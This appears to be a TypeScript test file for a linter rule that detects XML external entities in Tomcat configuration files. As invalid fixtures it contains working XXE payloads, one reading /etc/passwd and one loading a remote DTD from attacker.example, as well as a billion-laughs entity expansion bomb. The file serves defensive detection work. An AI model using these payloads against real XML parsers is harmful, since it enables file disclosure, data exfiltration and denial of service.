import { externalEntity } from '../../../../server/src/rules/xml/external-entity';
import { ruleTester } from '../../../support/ruleTester';

ruleTester(externalEntity, 'tomcat-xml', {
  valid: [
    { name: 'no DOCTYPE', text: '<Server/>' },
    { name: 'the external DTD of a web.xml 2.3 (not an entity)', text: '<!DOCTYPE web-app PUBLIC "-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">\n<web-app/>' },
    { name: 'a small internal entity', text: '<!DOCTYPE Server [\n  <!ENTITY port "8005">\n]>\n<Server port="&port;"/>' },
    { name: 'nested internal entities of modest size', text: '<!DOCTYPE Server [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;">]>\n<Server>&b;</Server>' },
  ],
  invalid: [
    {
      name: 'an external SYSTEM entity (XXE)',
      text: '<?xml version="1.0"?>\n<!DOCTYPE foo [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<Server>&xxe;</Server>',
      findings: [{ at: 'xxe', range: '2:11-2:14', message: /external entity `xxe` \("file:\/\/\/etc\/passwd"\)/ }],
    },
    {
      name: 'an external PUBLIC parameter entity',
      text: '<!DOCTYPE foo [ <!ENTITY % remote PUBLIC "-//X//EN" "http://attacker.example/evil.dtd"> %remote; ]>\n<Server/>',
      findings: [{ at: 'remote', message: /external parameter entity `remote` \("http:\/\/attacker\.example\/evil\.dtd"\)/ }],
    },
    {
      name: 'the billion laughs',
      text:
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
        Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${Array(10).fill(i === 0 ? '&lol;' : `&lol${i};`).join('')}">`).join('\n') +
        '\n]>\n<Server>&lol9;</Server>',
      findings: [
        { at: 'lol5', message: /expands to about 300,000 characters/ },
        { at: 'lol6', message: /3\.0 million/ },
        { at: 'lol7', message: /30\.0 million/ },
        { at: 'lol8', message: /300\.0 million/ },
        { at: 'lol9', message: /3\.0 billion/ },
      ],
    },
    {
      name: 'an entity that refers to itself',
      text: '<!DOCTYPE s [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n<Server>&a;</Server>',
      findings: [
        { at: 'a', range: '0:22-0:23', message: /refers to itself/ },
        { at: 'b', range: '0:39-0:40', message: /refers to itself/ },
      ],
    },
  ],
});
